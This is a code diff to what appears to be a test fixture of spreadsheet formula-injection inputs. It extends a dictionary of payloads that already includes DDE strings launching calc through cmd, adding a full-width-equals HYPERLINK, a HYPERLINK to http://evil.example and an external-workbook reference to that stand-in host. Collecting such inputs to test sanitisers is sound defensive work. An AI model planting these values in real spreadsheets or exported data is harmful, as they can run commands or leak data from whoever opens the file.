@@ -203,6 +203,9 @@ FORMULAS = {
     "with plus": "+cmd|'/C calc'!A0",
     "with minus": "-cmd|'/C calc'!A0",
     "with at": "@SUM(1+1)*cmd|'/C calc'!A0",
+    "with a wide sign": "＝HYPERLINK(A1)",
+    "with a blank": '=HYPERLINK ("http://evil.example")',
+    "cells of another file": "='http://evil.example/[x.xlsx]S'!A1",
 }
 LONG = {"100,000 letters": "x" * 100_000}
 NAMES = {**STEERING, **MARKUP, **FORMULAS}
